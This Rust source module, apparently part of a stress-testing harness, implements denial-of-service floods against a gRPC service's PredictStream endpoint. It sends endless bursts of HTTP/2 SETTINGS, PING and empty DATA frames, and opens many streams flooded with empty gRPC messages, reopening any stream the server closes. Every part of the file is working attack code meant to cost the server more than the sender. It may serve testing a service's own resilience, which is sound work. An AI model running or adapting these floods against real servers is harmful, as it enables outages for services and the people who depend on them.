//! Frames and messages that cost the server more than the sender, as fast as one connection takes
//! them.

use std::io;

use super::attack::{Attack, Session};
use super::connection::AttackConnection;
use super::raw_http2::{flag, frame, grpc_message, kind};
use super::target::Target;

const PREDICT_STREAM: &str = "/certimix.v1.MixedClassifier/PredictStream";
/// The frames or messages of one write.
const BURST: usize = 1000;

/// A frame that flow control does not limit.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FloodFrame {
    Settings,
    Ping,
    /// Empty DATA frames on an open PredictStream.
    EmptyData,
}

/// A connection that sends one frame again and again.
pub struct FrameFlood(pub FloodFrame);

impl Attack for FrameFlood {
    fn name(&self) -> &'static str {
        match self.0 {
            FloodFrame::Settings => "SETTINGS flood",
            FloodFrame::Ping => "PING flood",
            FloodFrame::EmptyData => "empty DATA flood",
        }
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        let one = match self.0 {
            FloodFrame::Settings => frame(kind::SETTINGS, flag::NONE, 0, &[]),
            FloodFrame::Ping => frame(kind::PING, flag::NONE, 0, &[0; 8]),
            FloodFrame::EmptyData => {
                let stream = connection.start_request(PREDICT_STREAM, &[])?;
                frame(kind::DATA, flag::NONE, stream, &[])
            }
        };
        let burst = one.repeat(BURST);
        while !session.is_stopped() {
            connection.send(&burst)?;
            session.count_sent(BURST as u64);
        }
        Ok(())
    }
}

/// A PredictStream of messages without content. Each costs five bytes, and an error as its answer.
pub struct EmptyMessages {
    /// Streams on the connection, each with its own messages.
    pub streams: usize,
}

impl Attack for EmptyMessages {
    fn name(&self) -> &'static str {
        "empty messages"
    }

    fn run(&self, target: &Target, session: &Session) -> io::Result<()> {
        let mut connection = AttackConnection::open(target, session)?;
        let mut streams = Vec::new();
        for _ in 0..self.streams {
            streams.push(connection.start_request(PREDICT_STREAM, &[])?);
        }
        let message = grpc_message(0, &[]);
        let burst = message.repeat(BURST);
        while !session.is_stopped() {
            for stream in &mut streams {
                if connection.has_ended(*stream) {
                    *stream = connection.start_request(PREDICT_STREAM, &[])?;
                }
                let sent = connection.send_data(*stream, &burst, session)?;
                session.count_sent((sent / message.len()) as u64);
            }
        }
        Ok(())
    }
}
